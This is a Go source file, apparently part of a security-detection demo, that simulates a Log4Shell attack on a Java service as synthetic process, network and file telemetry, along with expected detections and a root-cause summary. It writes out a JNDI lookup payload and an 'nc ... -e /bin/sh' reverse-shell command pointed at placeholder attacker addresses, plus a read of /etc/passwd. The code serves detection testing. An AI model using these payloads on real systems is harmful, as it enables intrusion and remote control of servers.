package demo

import (
	"fmt"
	"path"
	"strings"
	"time"
)

// storyLog4Shell: a request to the Java service carries a JNDI lookup;
// Log4j fetches and runs the attacker's class, which spawns a reverse
// shell; the attacker looks around.
func (s *scen) storyLog4Shell() *Story {
	g, c := s.g, s.c
	st := newStory(StoryLog4Shell, "log4shell: reverse shell from an exploited Java service", true)
	a := s.l4j[0]
	java := a.init
	addWorkload(st, a)
	t := s.now.Add(-3*time.Hour - 10*time.Minute).Add(g.dur(-20*time.Minute, 20*time.Minute))
	ms := func(lo, hi int) time.Duration {
		return g.dur(time.Duration(lo)*time.Millisecond, time.Duration(hi)*time.Millisecond)
	}

	// The JNDI lookup: LDAP referral, then the class over HTTP.
	s.rt.connect(java, t, c.ldapIP, uint32(c.ldapPort))
	s.detect(st, "outbound LDAP connection from a Java process", []string{"T1190"}, java, t,
		Detection{DestIP: c.ldapIP, DestPort: c.ldapPort})
	t = t.Add(ms(40, 180))
	s.rt.connect(java, t, c.ldapIP, uint32(c.httpPort))
	s.detect(st, "Java process fetches code over HTTP", []string{"T1105"}, java, t,
		Detection{DestIP: c.ldapIP, DestPort: c.httpPort})
	t = t.Add(ms(30, 120))
	s.rt.fileAccess(java, t, c.classFile, "-rw-r--r--", mayWrite)
	s.detect(st, "class file written by a Java process", []string{"T1105"}, java, t, Detection{File: c.classFile})

	// The class runs /bin/sh -c "nc ... -e /bin/sh".
	ncArgs := fmt.Sprintf("%s %d -e /bin/sh", c.revIP, c.revPort)
	t = t.Add(ms(60, 400))
	sh := s.rt.spawn(java, t, "/bin/sh", fmt.Sprintf("-c %q", "nc "+ncArgs))
	s.detect(st, "shell spawned by a Java process", []string{"T1059.004"}, sh, sh.start, Detection{ArgsContains: "nc " + c.revIP})
	nc := s.rt.spawn(sh, sh.start.Add(ms(1, 3)), "/usr/bin/nc", ncArgs)
	s.detect(st, "reverse shell", []string{"T1059.004"}, nc, nc.start,
		Detection{ArgsContains: fmt.Sprintf("%s %d", c.revIP, c.revPort), DestIP: c.revIP, DestPort: c.revPort})
	t = nc.start.Add(ms(1, 4))
	s.rt.connect(nc, t, c.revIP, uint32(c.revPort))
	shell := s.rt.spawn(nc, t.Add(ms(20, 90)), "/bin/sh", "")

	// The attacker types.
	t = shell.start.Add(g.dur(4*time.Second, 15*time.Second))
	type cmd struct {
		bin, args, what, tech string
	}
	for _, k := range []cmd{
		{"/usr/bin/id", "", "user discovery in a shell spawned by Java", "T1033"},
		{"/bin/uname", "-a", "system discovery in a shell spawned by Java", "T1082"},
		{"/bin/cat", "/etc/passwd", "account discovery in a shell spawned by Java", "T1087.001"},
	} {
		p := s.rt.spawn(shell, t, k.bin, k.args)
		d := Detection{ArgsContains: k.args}
		if k.bin == "/bin/cat" {
			s.rt.fileAccess(p, p.start.Add(ms(0, 1)), "/etc/passwd", "-rw-r--r--", mayRead)
			d.File = "/etc/passwd"
		}
		s.rt.exit(p, p.start.Add(ms(1, 5)), 0)
		s.detect(st, k.what, []string{k.tech}, p, p.start, d)
		t = p.end.Add(g.dur(3*time.Second, 20*time.Second))
	}
	// The session ends.
	t = t.Add(g.dur(time.Minute, 4*time.Minute))
	s.rt.exit(shell, t, 0)
	s.rt.exit(nc, t.Add(ms(1, 3)), 0)
	s.rt.exit(sh, nc.end.Add(ms(1, 3)), 0)
	span(st, sh.end)

	ref := fmt.Sprintf("${jndi:ldap://%s:%d/%s}", c.ldapIP, c.ldapPort, strings.TrimSuffix(path.Base(c.classFile), ".class"))
	st.AttackerIPs = []string{c.ldapIP, c.revIP}
	st.Indicators = []string{c.classFile, fmt.Sprintf("ldap://%s:%d", c.ldapIP, c.ldapPort),
		fmt.Sprintf("http://%s:%d/%s", c.ldapIP, c.httpPort, path.Base(c.classFile)), fmt.Sprintf("%s:%d", c.revIP, c.revPort)}
	st.Summary = fmt.Sprintf("An HTTP request to %s (port %d) in %s/%s carried the Log4j lookup %s. The service (java) connected "+
		"to the attacker's LDAP server %s:%d and HTTP server %s:%d, wrote %s, and spawned /bin/sh, which ran `nc %s` — "+
		"a reverse shell to %s:%d. Through it the attacker ran id, uname -a and cat /etc/passwd.",
		c.l4jWorkload, c.l4jPort, a.pod.namespace, a.pod.name, ref, c.ldapIP, c.ldapPort, c.ldapIP, c.httpPort, c.classFile,
		ncArgs, c.revIP, c.revPort)
	w := a.workload()
	st.RootCause = RootCause{
		Kind:    "exploited-service",
		Summary: fmt.Sprintf("the Java service %s is vulnerable to Log4Shell; a JNDI lookup in a request made it load and run attacker code", c.l4jWorkload),
		Process: java.name(), Args: java.args, Workload: &w,
		EntryPoint:    fmt.Sprintf("HTTP request to port %d with %s in a header", c.l4jPort, ref),
		Vulnerability: "CVE-2021-44228 (Log4Shell)",
	}
	s.after = append(s.after, func() { st.RootCause.ExecID = java.execID })
	return st
}
